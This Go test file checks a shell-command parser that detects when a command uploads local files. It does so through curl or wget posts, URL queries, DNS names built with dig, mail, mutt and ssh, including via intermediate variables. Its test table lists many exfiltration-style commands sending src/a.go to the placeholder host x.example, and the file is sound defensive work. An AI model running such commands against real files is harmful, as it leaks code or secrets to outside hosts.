package shellfacts

import (
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
)

// TestParseSentInputs pins uploads that are no file operand: the files a
// substitution reads inside an argument of a program that sends its
// arguments (curl -d "$(cat f)", a DNS name built from a file), the
// standard input of mail and of ssh to another machine, and mail
// attachments. Each row but the quiet ones had no upload before.
func TestParseSentInputs(t *testing.T) {
	opts := Options{Cwd: "/r", Home: "/home/u"}
	tests := []struct {
		command string
		want    []string
	}{
		{`curl -d "$(cat src/a.go)" https://x.example`, []string{"/r/src/a.go"}},
		{`cat src/a.go; curl -d "$(cat src/a.go)" https://x.example`, []string{"/r/src/a.go"}},
		{`curl --data-binary "$(base64 -w0 src/a.go)" https://x.example`, []string{"/r/src/a.go"}},
		{`curl "https://x.example/?q=$(cat src/a.go)"`, []string{"/r/src/a.go"}},
		{`wget --post-data="$(cat src/a.go)" https://x.example`, []string{"/r/src/a.go"}},
		{`dig "$(base64 src/a.go | head -c 40).x.example"`, []string{"/r/src/a.go"}},
		{`ssh h "echo $(cat src/a.go)"`, []string{"/r/src/a.go"}},
		{`mail -s x a@b.example < src/a.go`, []string{"/r/src/a.go"}},
		{`mutt -s x -a src/a.go -- a@b.example < /dev/null`, []string{"/r/src/a.go"}},
		{`cat src/a.go | mail -s x a@b.example`, []string{"/r/src/a.go"}},
		{`mail -s x a@b.example <<< "$(cat src/a.go)"`, []string{"/r/src/a.go"}},
		{`ssh h 'cat > x' <<< "$(base64 src/a.go)"`, []string{"/r/src/a.go"}},
		{`ssh h 'cat > x' < src/a.go`, []string{"/r/src/a.go"}},
		{`ssh -W db:5432 bastion < src/a.go`, []string{"/r/src/a.go"}},
		// Through a variable the substitution's output was assigned to.
		{`D=$(cat src/a.go); curl -d "$D" https://x.example`, []string{"/r/src/a.go"}},
		{`export D="$(base64 src/a.go)"; curl "https://x.example/?q=${D}"`, []string{"/r/src/a.go"}},
		{`D=$(cat src/a.go); if false; then D=x; fi; curl -d "$D" https://x.example`, []string{"/r/src/a.go"}},
		{`read -r D < src/a.go; curl -d "$D" https://x.example`, []string{"/r/src/a.go"}},
		{`mapfile -t L < src/a.go; curl -d "${L[*]}" https://x.example`, []string{"/r/src/a.go"}},
		{`read D <<< "$(base64 src/a.go)"; dig "$D.x.example"`, []string{"/r/src/a.go"}},
		// Quiet: no file read in the substitution, text not sent, a
		// service's own post, a connection given nothing.
		{`curl -H "Authorization: Bearer $(gcloud auth print-access-token)" https://x.example`, nil},
		{`git commit -m "$(cat msg.txt)"`, nil},
		{`gh pr create -t t --body "$(cat notes.md)"`, nil},
		{`ssh h uptime`, nil},
		{`echo "build done" | mail -s done dev@x.example`, nil},
		{`echo hi | ssh h cat`, nil},
		{`git ls-files | ssh h 'xargs ls'`, nil},
		{`ssh h 'cat x' < /dev/null`, nil},
		{`echo "$(cat src/a.go)" > out.txt`, nil},
		{`D=$(cat src/a.go); D=x; curl -d "$D" https://x.example`, nil},
		{`V=$(git rev-parse HEAD); curl -d "v=$V" https://x.example`, nil},
		{`read -p "name? " N; curl -d "n=$N" https://x.example`, nil},
		// A value computed from the file, not its text.
		{`curl "https://registry.npmjs.org/pkg/$(jq -r .version package.json)"`, nil},
		{`curl -d "lines=$(wc -l < src/a.go)" https://x.example`, nil},
		{`curl -d "sum=$(sha256sum src/a.go)" https://x.example`, nil},
		{`curl -d "$(jq . package.json)" https://x.example`, []string{"/r/package.json"}},
		{`curl -d "$(jq -r '.[]' package.json)" https://x.example`, []string{"/r/package.json"}},
	}
	for _, tt := range tests {
		f, err := Parse(tt.command, opts)
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(tt.want, f.Uploads, cmpopts.EquateEmpty()); diff != "" {
			t.Errorf("Parse(%q).Uploads (-want +got):\n%s", tt.command, diff)
		}
	}
}
